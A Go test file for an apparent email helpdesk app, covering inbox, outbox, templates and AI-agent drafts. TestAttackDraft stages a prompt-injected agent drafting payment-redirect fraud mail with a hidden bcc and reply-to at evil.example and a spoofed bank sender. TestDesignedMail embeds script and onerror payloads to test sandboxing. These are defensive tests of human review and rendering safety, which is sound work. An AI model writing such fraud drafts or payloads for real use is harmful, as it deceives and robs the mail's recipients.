package desk_test

import (
	"context"
	"fmt"
	"html"
	"math/rand/v2"
	"net/http"
	"regexp"
	"strings"
	"sync"
	"testing"
	"time"

	"frontdesk/internal/apptest"
	"frontdesk/internal/kernel/db"
	"frontdesk/internal/kernel/id"
	"frontdesk/internal/resource/message"
)

// answered sends a mail to somebody and lets their answer come in. It returns the
// thread.
func answered(t testing.TB, a *apptest.App, address, subject, body string) id.ID {
	t.Helper()
	sent := a.SendREST(t, a.Key, "POST", "/v1/messages",
		fmt.Sprintf(`{"to": %q, "subject": "How are you?", "text": "Tell me."}`, address)).OK(t, 201)
	internetID := ""
	err := a.DB.Read(t.Context(), func(ctx context.Context, tx *db.Tx) (err error) {
		internetID, err = message.LoadInternetID(ctx, tx, a.Org, sent.ID("id"))
		return err
	})
	if err != nil {
		t.Fatal(err)
	}
	box, err := a.Messages.FindMailbox(t.Context(), "reply+"+internetID)
	if err != nil {
		t.Fatal(err)
	}
	text := "From: " + address + "\r\nTo: reply+" + internetID + "\r\nSubject: " + subject +
		"\r\nMIME-Version: 1.0\r\nContent-Type: " + body
	err = a.Messages.Receive(t.Context(), message.ReceivedMail{Sender: address, Recipients: []message.Mailbox{box},
		Content: strings.NewReader(text), Size: int64(len(text))})
	if err != nil {
		t.Fatal(err)
	}
	return sent.ID("threadId")
}

// work runs the jobs until the test ends.
func work(t *testing.T, a *apptest.App) {
	t.Helper()
	if err := a.Jobs.Start(context.Background()); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() {
		ctx, cancel := context.WithTimeout(context.Background(), time.Minute)
		defer cancel()
		if err := a.Jobs.Stop(ctx); err != nil {
			t.Error(err)
		}
	})
}

const plainBody = "text/plain\r\n\r\nVery well, thank you.\r\n\r\nOn Monday you wrote:\r\n> Tell me.\r\n"

// A member works through the inbox without a script: reads, assigns, notes,
// answers with a template and a file, snoozes, closes, and undoes it.
func TestInboxStory(t *testing.T) {
	apptest.EachEngine(t, func(t *testing.T, a *apptest.App) {
		b := member(t, a)
		b.get("/inbox").at("/inbox", "Nothing waits for you")
		a.SendREST(t, a.Key, "POST", "/v1/contacts",
			`{"firstName": "Ada", "lastName": "Lovelace", "emails": [{"email": "ada@example.org"}]}`).OK(t, 201)
		template := a.SendREST(t, a.Key, "POST", "/v1/email-templates", `{"name": "Thanks", "subject": "Thank you", `+
			`"body": "Dear {{ contact.firstName }}, thank you for {{ thing }}."}`).OK(t, 201).ID("id")
		ref := answered(t, a, "ada@example.org", "Re: How are you?", plainBody)
		thread := "/inbox/" + string(ref)
		list := b.get("/inbox").at("/inbox", "Ada Lovelace", "How are you?", "Very well, thank you.", "1 unread")
		list.find(`(<li class="new")`)
		p := b.get(thread).at(thread, "Very well, thank you.", "What it quotes", "Not verified", "Open page")
		p.hasNot("reply+")
		b.get("/inbox").hasNot(`<li class="new"`)
		// Assigned to a colleague, who is not there.
		b.post(thread+"/change", "do", "assign", "to", string(a.OwnerID), "back", thread).
			at(thread, "Assigned.", "Undo")
		b.get("/inbox").hasNot("Nothing waits")
		b.post(thread+"/change", "do", "assign", "to", string(id.New()), "back", thread).refused(400)
		b.post(thread+"/reply", "do", "note", "text", "She is <b>nice</b>.").at(thread, "Note saved.",
			"She is <b>nice</b>.", "Only your team")
		b.post(thread+"/reply", "do", "note", "text", "").refused(400)
		// A template is a beginning.
		answer := b.get(thread+"?template="+string(template)).at(thread, "Dear Ada, thank you for [thing].")
		last := answer.find(`name="inReplyToId" value="([^"]+)"`)
		b.post(thread+"/reply", "do", "send", "to", "nobody at all", "subject", "Re", "text", "Hello").
			refused(400, "nobody at all", "Hello")
		draft := b.post(thread+"/reply", "do", "save", "to", "ada@example.org", "subject", "Re: How are you?", "text",
			"Dear Ada, thank you.", "inReplyToId", last).at(thread, "Draft saved.", "Discard")
		draftID := draft.find(`name="draft" value="([^"]+)"`)
		b.get("/outbox?status=draft").at("/outbox", "ada@example.org", "draft")
		b.upload(thread+"/reply", map[string]string{"do": "send", "draft": draftID, "to": "ada@example.org",
			"subject": "Re: How are you?", "text": "Dear Ada, thank you again."}, "plan.txt", "A plan.").
			at(thread, "Sent.", "Dear Ada, thank you again.", "plan.txt", "Waiting")
		b.get("/inbox").at("/inbox", "Nothing waits for you")
		b.get("/inbox?status=waiting").at("/inbox", "Ada Lovelace")
		// Closed, and open again.
		closed := b.post(thread+"/change", "do", "close", "list", "/inbox", "back", thread).at("/inbox", "Closed.")
		b.get("/inbox?status=closed").at("/inbox", "Ada Lovelace")
		b.post("/undo", "event", closed.find(`name="event" value="([^"]+)"`), "back", thread).at(thread, "Undone.",
			"Waiting")
		late := a.Clock.Now().Std().AddDate(0, 0, 400).Format("2006-01-02T15:04")
		b.post(thread+"/change", "do", "snooze", "until", late, "list", "/inbox").refused(400, "within a")
		b.post(thread+"/change", "do", "explode").refused(404)
		b.get("/search?query=how+are").at("/search", "How are you?")
		// Nobody else's.
		other := visit(t, a.URL)
		other.signIn(a.NewTenant(t, "free").Owner, "a long password").at("/")
		other.get(thread).refused(404)
		other.post(thread+"/change", "do", "close").refused(404)
		other.post(thread + "/here").refused(404)
		other.get("/outbox/" + draftID).refused(404)
	})
}

// What an agent wrote is marked, and sent as its reader decides.
func TestDraftOfAnAgent(t *testing.T) {
	apptest.EachEngine(t, func(t *testing.T, a *apptest.App) {
		b := owner(t, a)
		ref := answered(t, a, "ada@example.org", "Re: How are you?", plainBody)
		agent := a.NewAgent(t, a.Tenant, "all")
		_, access, _ := a.ConnectAgent(t, a.Tenant, agent)
		session := a.InitializeSession(t, access)
		in := b.get("/inbox/" + string(ref)).find(`name="inReplyToId" value="([^"]+)"`)
		call := fmt.Sprintf(`{"jsonrpc": "2.0", "id": 7, "method": "tools/call", "params": {"name":
			"messages_create", `+
			`"arguments": {"to": "ada@example.org", "subject": "Re: How are you?", "html": "<p>Dear <b>Ada</b>, `+
			`thanks.</p>", "inReplyToId": %q, "draft": true}}}`, in)
		if r := a.SendRPC(t, access, call, session...); r.Status != http.StatusOK {
			t.Fatalf("%d %s", r.Status, r.Body)
		}
		p := b.get("/inbox/"+string(ref)).at("/inbox/"+string(ref), "Draft by", "Read it, then send it as yours.",
			"Dear Ada, thanks.")
		draft := p.find(`name="draft" value="([^"]+)"`)
		b.post("/inbox/"+string(ref)+"/reply", p.answer("do", "send")...).at("/inbox/", "Sent.")
		// Nothing was changed, so that its design stays.
		if got := b.get("/outbox/" + draft + "/paper"); !strings.Contains(got.Body, "<b>Ada</b>") {
			t.Errorf("%s", got.Body)
		}
	})
}

var (
	field = regexp.MustCompile(`<input ([^>]*)>`)
	from  = regexp.MustCompile(`<select class="in" id="(from)".*?<option value="([^"]*)" selected>`)
	named = regexp.MustCompile(`name="([^"]*)"`)
	holds = regexp.MustCompile(`value="([^"]*)"`)
)

// answer is the form at the end of a thread as it was shown, in pairs of name and
// value, with these in place of its own.
func (p page) answer(pairs ...string) (out []string) {
	p.t.Helper()
	_, form, _ := strings.Cut(p.Body, `<form class="write" id="answer"`) // the last of the page's
	all := map[string][]string{"text": {p.find(`(?s)<textarea id="reply"[^>]*>\n(.*?)</textarea>`)}}
	for _, m := range field.FindAllStringSubmatch(form, -1) {
		name, value := named.FindStringSubmatch(m[1]), holds.FindStringSubmatch(m[1])
		if name != nil && value != nil && !strings.Contains(m[1], `type="checkbox"`) {
			all[name[1]] = append(all[name[1]], html.UnescapeString(value[1]))
		}
	}
	if m := from.FindStringSubmatch(form); m != nil {
		all[m[1]] = []string{html.UnescapeString(m[2])}
	}
	for i := 0; i < len(pairs); i += 2 {
		all[pairs[i]] = []string{pairs[i+1]}
	}
	for name, values := range all {
		for _, value := range values {
			out = append(out, name, value)
		}
	}
	return out
}

// An agent that obeys a stranger writes a draft. Its reader sees all of it, and
// sends what they saw, even if the agent changes it before they press the button.
func TestAttackDraft(t *testing.T) {
	apptest.EachEngine(t, func(t *testing.T, a *apptest.App) {
		b := owner(t, a)
		ref := answered(t, a, "ada@example.org", "Re: How are you?", plainBody)
		thread := "/inbox/" + string(ref)
		customer := a.SendREST(t, a.Key, "POST", "/v1/customers", `{"name": "Jacquard & Sons"}`).OK(t, 201).ID("id")
		invoice := a.SendREST(t, a.Key, "POST", "/v1/invoices", fmt.Sprintf(`{"customerId": %q, "lineItems": `+
			`[{"description": "Cards", "unitAmountCents": 900}]}`, customer)).OK(t, 201).ID("id")
		number := a.SendREST(t, a.Key, "POST", "/v1/invoices/"+string(invoice)+"/issue", "").OK(t, 200).
			Text("invoiceNumber")
		agent := a.NewAgent(t, a.Tenant, "all")
		a.AsOperator(t, "agents.configure", "agent", agent, fmt.Sprintf(`{"id": %q, "askMode": "propose"}`, agent))
		_, access, _ := a.ConnectAgent(t, a.Tenant, agent)
		session := a.InitializeSession(t, access)
		call := func(tool, arguments string) apptest.Value {
			t.Helper()
			return a.SendRPC(t, access, fmt.Sprintf(`{"jsonrpc": "2.0", "id": 7, "method": "tools/call",
				"params": {"name": %q, "arguments": %s}}`, tool, arguments), session...).ParseJSON(t).
				At("result.structuredContent.data")
		}
		call("messages_list", fmt.Sprintf(`{"threadId": %q}`, ref)) // a stranger's words
		in := b.get(thread).find(`name="inReplyToId" value="([^"]+)"`)
		written := func() (draft string, p page) {
			t.Helper()
			draft = call("messages_create", fmt.Sprintf(`{"to": "ada@example.org", "bcc": ["thief@evil.example"],
				"replyTo": "answers@evil.example", "from": "Your bank <%s>", "subject": "Re: How are you?",
				"text": "Dear Ada, thanks.", "html": "<p>Our bank has changed. Pay to account 42.</p>",
				"invoiceIds": [%q], "inReplyToId": %q, "draft": true}`, a.MailHosts.DefaultAddress(), invoice, in)).
				Text("id")
			p = b.get(thread).at(thread, "Draft by", "Read it, then send it as yours.", "Dear Ada, thanks.",
				"Leave out Invoice "+number)
			for _, shown := range []string{`<details class="towards" open`,
				`<option value="` + a.MailHosts.DefaultAddress() + `" selected>Test via 127.0.0.1 `,
				`name="bcc" value="thief@evil.example"`, `name="replyTo" value="answers@evil.example"`} {
				p.find("(" + shown + ")")
			}
			b.get(p.find(`src="(/inbox/[^"]+/paper/[^"]+)"`)).has("Pay to account 42.")
			return draft, p
		}
		sent := func(draft string) apptest.Value {
			t.Helper()
			got := a.SendREST(t, a.Key, "GET", "/v1/messages/"+draft, "").OK(t, 200)
			got.Same("text", "Dear Ada, thanks.")
			return got
		}

		draft, p := written()
		call("messages_update", fmt.Sprintf(`{"id": %q, "bcc": ["other@evil.example"], "replyTo": "other@evil.example",
			"from": "Another bank <%s>", "html": "<p>Pay to account 43.</p>", "invoiceIds": []}`, draft,
			a.MailHosts.DefaultAddress()))
		b.post(thread+"/reply", p.answer("do", "send")...).at(thread, "Sent.")
		got := sent(draft)
		got.Same("bcc.0", "thief@evil.example")
		got.Same("replyTo", "answers@evil.example")
		got.Same("fromName", "Test via 127.0.0.1") // the one name there
		got.Same("invoiceIds.0", string(invoice))
		got.Same("html", nil) // nobody looked at it
		b.get("/outbox/"+draft).at("/outbox/", "thief@evil.example", "answers@evil.example")

		// What is taken out of the form is not sent, nor put back when something else is wrong with it.
		draft, p = written()
		frame := p.find(`src="(/inbox/[^"]+/paper/[^"]+)"`)
		call("messages_update", fmt.Sprintf(`{"id": %q, "html": "<p>Harmless.</p>"}`, draft))
		b.get(frame).has("This draft was changed a moment ago.")
		call("messages_update", fmt.Sprintf(`{"id": %q, "html": %q}`, draft,
			"<p>Our bank has changed. Pay to account 42.</p>"))
		b.post(thread+"/reply", p.answer("do", "send", "scheduledAt", "soon", "invoice-gone", string(invoice))...).
			refused(400).find(`(name="invoice-gone" value="` + string(invoice) + `" checked)`)
		b.post(thread+"/reply", p.answer("do", "send", "bcc", "", "replyTo", "", "invoice-gone", string(invoice))...).
			at(thread, "Sent.")
		got = sent(draft)
		got.Same("replyTo", nil)
		for _, none := range []string{"bcc", "invoiceIds"} {
			if n := got.At(none).Len(); n != 0 {
				t.Errorf("%d %s", n, none)
			}
		}
		got.Same("html", "<p>Our bank has changed. Pay to account 42.</p>") // it was shown

		// An agent that keeps changing it is never the last.
		draft, p = written()
		stop, busy := context.WithCancel(t.Context())
		var wg sync.WaitGroup
		for range 4 {
			wg.Go(func() {
				for stop.Err() == nil {
					a.SendREST(t, a.Key, "PATCH", "/v1/messages/"+draft,
						fmt.Sprintf(`{"bcc": "x%d@evil.example"}`, rand.Int()))
				}
			})
		}
		b.post(thread+"/reply", p.answer("do", "send")...).at(thread, "Sent.")
		busy()
		wg.Wait()
		sent(draft).Same("bcc.0", "thief@evil.example")
	})
}

// Two people in one thread see each other, until one leaves.
func TestReadersSeeEachOther(t *testing.T) {
	apptest.EachEngine(t, func(t *testing.T, a *apptest.App) {
		one, two := owner(t, a), member(t, a)
		at := "/inbox/" + string(answered(t, a, "ada@example.org", "Re: How are you?", plainBody))
		one.get(at)
		one.post(at + "/here").hasNot("reading this too")
		two.post(at + "/here").has("is reading this too")
		one.post(at+"/here").has("Grace Hopper", "is reading this too")
		two.post(at + "/here?left=yes")
		one.post(at + "/here").hasNot("reading this too")
	})
}

// Designed mail is shown in a frame that runs nothing and loads pictures only
// when somebody asks.
func TestDesignedMail(t *testing.T) {
	apptest.EachEngine(t, func(t *testing.T, a *apptest.App) {
		b := owner(t, a)
		ref := answered(t, a, "ada@example.org", "News", "text/html\r\n\r\n<table><tr><td>News"+
			`<img src="https://tracker.example/x.png" onerror="parent.ran=1"></td></tr></table><script>ran=1</script>`)
		p := b.get("/inbox/" + string(ref))
		quiet(t, p)
		paper := p.find(`src="(/inbox/[^"]+/paper/[^"]+)"`)
		p.find(`(sandbox="allow-popups allow-popups-to-escape-sandbox")`)
		shown := b.get(paper)
		policy := shown.Header.Get("Content-Security-Policy")
		if strings.Contains(policy, "https:") || !strings.Contains(policy, "sandbox") ||
			strings.Contains(policy, "script-src") || strings.Contains(shown.Body, "<script") ||
			strings.Contains(shown.Body, "onerror") {
			t.Errorf("%s %s", policy, shown.Body)
		}
		asked := b.get(strings.ReplaceAll(p.find(`href="([^"]+)">Show pictures`), "&amp;", "&"))
		src := asked.find(`src="(/inbox/[^"]+/paper/[^"]+)"`)
		got := b.get(src).Header.Get("Content-Security-Policy")
		if !strings.Contains(got, "img-src 'self' data: https:") {
			t.Errorf("%s: %s", src, got)
		}
	})
}

// What was sent is seen as its reader sees it: designed, as text, with its source
// and the invoice's PDF.
func TestOutboxStory(t *testing.T) {
	apptest.EachEngine(t, func(t *testing.T, a *apptest.App) {
		work(t, a)
		b := member(t, a)
		b.get("/outbox").at("/outbox", "No mail yet")
		customer := a.SendREST(t, a.Key, "POST", "/v1/customers",
			`{"name": "Jacquard & Sons", "email": "orders@example.net"}`).OK(t, 201).ID("id")
		invoice := a.SendREST(t, a.Key, "POST", "/v1/invoices", fmt.Sprintf(`{"customerId": %q, "lineItems": `+
			`[{"description": "Cards", "unitAmountCents": 900}]}`, customer)).OK(t, 201).ID("id")
		a.SendREST(t, a.Key, "POST", "/v1/invoices/"+string(invoice)+"/issue", "").OK(t, 200)
		b.post("/invoices/"+string(invoice)+"/send", "to", "orders@example.net").at("/invoices/", "Sent.")
		list := b.get("/outbox?status=sent")
		for range 3000 {
			if strings.Contains(list.Body, "Invoice INV-") {
				break
			}
			time.Sleep(20 * time.Millisecond)
			list = b.get("/outbox?status=sent")
		}
		list.at("/outbox", "Invoice INV-", "orders@example.net", "sent")
		at := list.find(`href="(/outbox/[^"?]+)"`)
		p := b.get(at).at(at, "orders@example.net", "As designed", "Source", ".pdf")
		if paper := b.get(at + "/paper"); !strings.Contains(paper.Body, "See the invoice") {
			t.Errorf("%s", paper.Body)
		}
		pdf := b.get(p.find(`href="(/outbox/[^"]+/file/0)"`))
		if !strings.HasPrefix(pdf.Body, "%PDF") || pdf.Header.Get("Content-Type") != "application/pdf" {
			t.Errorf("%v", pdf.Header)
		}
		b.get(at + "/file/1").refused(404)
		b.get(at+"?as=text").at(at, "INV-")
		b.get(at+"?as=source").at(at, "MIME-Version: 1.0", "DKIM")
		later := a.Clock.Now().Add(48 * time.Hour).Std().Format("2006-01-02T15:04")
		b.post("/inbox/new", "to", "ada@example.org", "subject", "Later", "text", "Soon.", "scheduledAt",
			later, "do", "send").at("/inbox/", "It will be sent then.", "Do not send")
		b.get("/outbox?status=scheduled").at("/outbox", "Later")
	})
}

// Today counts who waits for us, not whom we wrote to.
func TestTodayWaits(t *testing.T) {
	apptest.EachEngine(t, func(t *testing.T, a *apptest.App) {
		b := owner(t, a)
		a.SendREST(t, a.Key, "POST", "/v1/messages", `{"to": "bob@example.com", "subject": "News", "text": "x"}`).OK(t,
			201)
		b.get("/").at("/", "nobody is waiting")
		thread := answered(t, a, "ada@example.com", "Re: How are you?", plainBody)
		b.get("/").at("/", "oldest 1 minute", "How are you?").find(`(href="/inbox/` + string(thread) + `")`)
		a.SendREST(t, a.Key, "PATCH", "/v1/threads/"+string(thread), `{"status": "closed"}`).OK(t, 200)
		b.get("/").at("/", "nobody is waiting")
	})
}

// The page of a template shows it before anybody gave its placeholders values, as
// it will be sent: in the letterhead of the business.
func TestTemplatePreview(t *testing.T) {
	apptest.EachEngine(t, func(t *testing.T, a *apptest.App) {
		b := owner(t, a)
		made := a.SendREST(t, a.Key, "POST", "/v1/email-templates", `{"name": "News", "subject": "{{ season }}",
			"body": "Hello {{ contact.firstName }}, it is {{ season }}."}`).OK(t, 201)
		at := "/templates/" + made.Text("id") + "/preview"
		b.get(at).has("Test Hello [contact.firstName], it is [season]. Test").find(`(max-width:600px)`)
		logo := a.UploadForm(t, a.Key, "/v1/files", apptest.Part{Name: "file", FileName: "logo.png",
			Text: "\x89PNG\r\n\x1a\n" + strings.Repeat("x", 50)}).OK(t, 201).Text("id")
		a.SendREST(t, a.Key, "PATCH", "/v1/businesses/"+string(a.Business),
			fmt.Sprintf(`{"logoFileId": %q}`, logo)).OK(t, 200)
		b.get(at).hasNot("cid:").find(`src="(data:image/png;base64,iVBORw0KGgp4)`)
		a.SendREST(t, a.Key, "PATCH", "/v1/email-templates/"+made.Text("id"), `{"templateKey": "invoice",
			"body": "Invoice {{ invoice.number }}"}`).OK(t, 200)
		b.get(at).has("Invoice [invoice.number]", "See the invoice")
	})
}
